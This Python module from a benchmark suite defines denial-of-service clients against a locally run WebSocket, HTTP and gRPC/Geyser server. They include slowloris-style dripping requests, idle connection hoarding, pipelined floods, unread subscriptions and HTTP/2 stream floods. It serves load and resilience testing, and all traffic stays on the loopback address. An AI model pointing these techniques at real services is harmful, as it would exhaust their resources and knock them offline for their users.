"""Clients that mean harm, for benchmarks.attacks: each attack is a function that goes on until it
is told to stop. They run in a process of their own, at the lowest priority.
"""

import itertools
import json
import selectors
import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from multiprocessing.sharedctypes import Synchronized
from multiprocessing.synchronize import Event
from typing import Any

from benchmarks.neighbours import (
    HANDSHAKE,
    PREFACE,
    grpc_headers,
    http2_frame,
    websocket_frame,
)

_SLOT_HISTORY = "SysvarS1otHistory11111111111111111111111111"
# Not the neighbours' address: limits of an address are the attacker's own.
_ADDRESS = "127.0.1.1"
_DRIP_SECONDS = 1.0
_WAIT_SECONDS = 5.0
_AT_ONCE = 65_536
_ESTABLISHED = 1  # of Linux' tcp_states.h


@dataclass(frozen=True)
class Target:
    """What is attacked, with one key or without; `sent` counts bytes, `opened` connections."""

    port: int
    grpc_port: int
    key: str | None
    over: Event
    sent: "Synchronized[int]"
    opened: "Synchronized[int]"

    def authorization(self) -> bytes:
        return b"" if self.key is None else b"Authorization: " + self.key.encode() + b"\r\n"


Payload = Callable[[], Iterator[bytes]]
Attack = Callable[[Target], None]


def pour(
    target: Target,
    port: int,
    opening: bytes,
    payload: Payload,
    *,
    count: int = 4,
    until: bytes = b"",
    reads: bool = True,
    step: int = _AT_ONCE,
) -> None:
    """So many connections that send as fast as they can, `step` bytes at once, and read what comes
    or do not. `payload` begins only behind an answer with `until`. Who is disconnected comes again.
    """
    peers: dict[socket.socket, tuple[Iterator[bytes], memoryview]] = {}
    silent: list[socket.socket] = []  # they have sent all, and do not read
    with selectors.DefaultSelector() as selector:
        wanted = selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0)
        tried = 0.0
        while not target.over.is_set():
            if len(peers) < count and time.monotonic() - tried > 0.05:
                new = opened(target, port, opening, until)
                if new is None:
                    tried = time.monotonic()
                else:
                    peers[new] = (payload(), memoryview(b""))
                    selector.register(new, wanted)
            for gone in [peer for peer in silent if not _is_open(peer)]:
                silent.remove(gone)
                del peers[gone]
                gone.close()
            for key, events in selector.select(0.05):
                peer = key.fileobj
                assert isinstance(peer, socket.socket)
                try:
                    if events & selectors.EVENT_READ and not peer.recv(262_144):
                        raise ConnectionResetError
                    if events & selectors.EVENT_WRITE:
                        more, rest = peers[peer]
                        rest = rest or memoryview(next(more))
                        sent = peer.send(rest[:step])
                        target.sent.value += sent
                        peers[peer] = (more, rest[sent:])
                except BlockingIOError:
                    continue
                except StopIteration:
                    if reads:
                        selector.modify(peer, selectors.EVENT_READ)
                    else:
                        selector.unregister(peer)
                        silent.append(peer)
                except OSError:
                    selector.unregister(peer)
                    peer.close()
                    del peers[peer]
    for peer in peers:
        peer.close()


def _is_open(peer: socket.socket) -> bool:
    """Whether the other side has not ended the connection, without reading."""
    return peer.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == _ESTABLISHED


def opened(
    target: Target, port: int, opening: bytes, until: bytes = b"", address: str = _ADDRESS
) -> socket.socket | None:
    """A connection that has sent the opening; None if it is refused, or answered otherwise."""
    try:
        peer = socket.create_connection(
            ("127.0.0.1", port), _WAIT_SECONDS, source_address=(address, 0)
        )
    except OSError:
        return None
    target.opened.value += 1
    try:
        peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        peer.sendall(opening)
        received = b""
        while until not in received:
            piece = peer.recv(4_096)
            if not piece or b"HTTP/1.1 4" in received[:10]:
                raise ConnectionRefusedError
            received += piece
    except OSError:
        peer.close()
        return None
    peer.setblocking(False)
    return peer


def hold(
    target: Target,
    port: int,
    opening: bytes,
    *,
    count: int,
    drip: bytes = b"",
    until: bytes = b"",
    addresses: int = 1,
) -> None:
    """So many connections that send the opening, then the drip's bytes again and again, and read
    nothing. Who is disconnected comes again.
    """
    held: list[socket.socket] = []
    dripped = time.monotonic()
    numbers = itertools.count()
    while not target.over.is_set():
        if len(held) < count:
            address = f"127.0.1.{next(numbers) % addresses + 1}"
            peer = opened(target, port, opening, until, address)
            if peer is None:
                target.over.wait(0.02)
            else:
                held.append(peer)
        else:
            target.over.wait(0.05)
        if drip and time.monotonic() - dripped > _DRIP_SECONDS:
            dripped = time.monotonic()
            held = [peer for peer in held if _dripped(target, peer, drip)]
    for peer in held:
        peer.close()


def _dripped(target: Target, peer: socket.socket, drip: bytes) -> bool:
    try:
        target.sent.value += peer.send(drip)
    except BlockingIOError:
        return True
    except OSError:
        peer.close()
        return False
    return True


# --- WebSocket ------------------------------------------------------------------------------------


def websocket(payload: bytes, **options: Any) -> Attack:
    """These frames again and again."""

    def run(target: Target) -> None:
        opening = HANDSHAKE + target.authorization() + b"\r\n"
        repeated = payload * max(1, _AT_ONCE // len(payload))
        pour(
            target,
            target.port,
            opening,
            lambda: itertools.repeat(repeated),
            until=b"HTTP/1.1 101",
            **options,
        )

    return run


def unread_subscriptions(count: int, each: int) -> Attack:
    """WebSockets with subscriptions to the largest account that every slot writes, unread."""

    def run(target: Target) -> None:
        def calls() -> Iterator[bytes]:
            for number in range(each):
                config = {"commitment": "processed", "encoding": "base64"}
                yield websocket_frame(
                    0x81, _call(number, "accountSubscribe", _SLOT_HISTORY, config)
                )

        opening = HANDSHAKE + target.authorization() + b"\r\n"
        options: Any = {"count": count, "until": b"HTTP/1.1 101", "reads": False}
        pour(target, target.port, opening, calls, **options)

    return run


def many_subscriptions(count: int, each: int) -> Attack:
    """WebSockets with subscriptions to signatures that never come, read."""

    def run(target: Target) -> None:
        def calls() -> Iterator[bytes]:
            for number in range(each):
                yield websocket_frame(0x81, _call(number, "signatureSubscribe", "1" * 64))

        opening = HANDSHAKE + target.authorization() + b"\r\n"
        pour(target, target.port, opening, calls, count=count, until=b"HTTP/1.1 101")

    return run


def _call(number: int, method: str, *params: Any) -> bytes:
    return json.dumps({"jsonrpc": "2.0", "id": number, "method": method, "params": params}).encode()


# --- HTTP -----------------------------------------------------------------------------------------


def slowly(first: bytes, drip: bytes, count: int) -> Attack:
    """Requests that are never whole."""

    def run(target: Target) -> None:
        opening = first.replace(b"{key}", target.authorization())
        hold(target, target.port, opening, count=count, drip=drip)

    return run


def requests(request: bytes, **options: Any) -> Attack:
    """Whole requests, one behind the other, without waiting for answers."""

    def run(target: Target) -> None:
        whole = request.replace(b"{key}", target.authorization())
        repeated = whole * max(1, _AT_ONCE // len(whole))
        pour(target, target.port, b"", lambda: itertools.repeat(repeated), **options)

    return run


def idle(door: str, count: int, addresses: int) -> Attack:
    """Connections that say nothing."""

    def run(target: Target) -> None:
        port = target.port if door == "web" else target.grpc_port
        hold(target, port, b"", count=count, addresses=addresses)

    return run


# --- gRPC -----------------------------------------------------------------------------------------

GREETING = PREFACE + http2_frame(4)


def frames(payload: bytes, *, path: str = "", count: int = 4) -> Attack:
    """These frames again and again; with a path behind a call that was begun."""

    def run(target: Target) -> None:
        opening = GREETING
        if path:
            opening += http2_frame(1, grpc_headers(path, target.key), flags=4, stream=1)
        repeated = payload * (_AT_ONCE // len(payload))
        pour(target, target.grpc_port, opening, lambda: itertools.repeat(repeated), count=count)

    return run


def streams(
    path: str, behind: Callable[[int], bytes], *, each: int | None = None, **options: Any
) -> Attack:
    """Calls that are begun, with frames behind each; all that a connection may number, or some."""

    def run(target: Target) -> None:
        block = grpc_headers(path, target.key)

        def calls() -> Iterator[bytes]:
            numbers = itertools.count(1, 2) if each is None else range(1, 2 * each, 2)
            for number in numbers:
                yield http2_frame(1, block, flags=4, stream=number) + behind(number)

        pour(target, target.grpc_port, GREETING + http2_frame(8, _WINDOW), calls, **options)

    return run


_WINDOW = struct.pack(">I", 2**30)


def reset(number: int) -> bytes:
    return http2_frame(3, struct.pack(">I", 8), stream=number)


def message(data: bytes, announced: int | None = None) -> Callable[[int], bytes]:
    """A message in frames of 16 kB; whole, or with more announced than comes."""
    size = len(data) if announced is None else announced
    whole = b"\0" + size.to_bytes(4, "big") + data
    pieces = [whole[place : place + 16_384] for place in range(0, len(whole), 16_384)]

    def of(number: int) -> bytes:
        return b"".join(http2_frame(0, piece, stream=number) for piece in pieces)

    return of


def nothing(_number: int) -> bytes:
    return b""


def unread_streams(count: int, each: int) -> Attack:
    """Streams of all blocks with their accounts, whose windows are wide and which are not read."""
    from upstream.protobuf import geyser_pb2 as schema

    blocks: Any = {"b": {"include_accounts": True}}
    accounts: Any = {"a": {"account": [_SLOT_HISTORY]}}
    request = schema.SubscribeRequest(blocks=blocks, accounts=accounts).SerializeToString()

    def run(target: Target) -> None:
        block = grpc_headers("/geyser.Geyser/Subscribe", target.key)
        behind = message(request)
        wide = http2_frame(4, struct.pack(">HI", 4, 2**31 - 1)) + http2_frame(8, _WINDOW)

        def calls() -> Iterator[bytes]:
            for number in range(1, 2 * each, 2):
                yield http2_frame(1, block, flags=4, stream=number) + behind(number)

        pour(target, target.grpc_port, PREFACE + wide, calls, count=count, reads=False)

    return run


def many_filters(count: int) -> Attack:
    """One request with so many filters, again and again."""
    from upstream.protobuf import geyser_pb2 as schema

    slots: Any = {str(number): {} for number in range(count)}
    data = schema.SubscribeRequest(slots=slots).SerializeToString()
    return streams("/geyser.Geyser/Subscribe", message(data), count=2)


def in_turn(attack: Attack, seconds: float) -> Attack:
    """The attack by new connections each time."""

    def run(target: Target) -> None:
        while not target.over.is_set():
            part = _Part(target.over, time.monotonic() + seconds)
            with suppress(OSError):
                attack(_with(target, part))

    return run


class _Part:
    """An event that is also set after a time."""

    def __init__(self, over: Event, until: float) -> None:
        self._over = over
        self._until = until

    def is_set(self) -> bool:
        return self._over.is_set() or time.monotonic() > self._until

    def wait(self, seconds: float) -> bool:
        return self._over.wait(seconds)


def _with(target: Target, over: Any) -> Target:
    return Target(target.port, target.grpc_port, target.key, over, target.sent, target.opened)
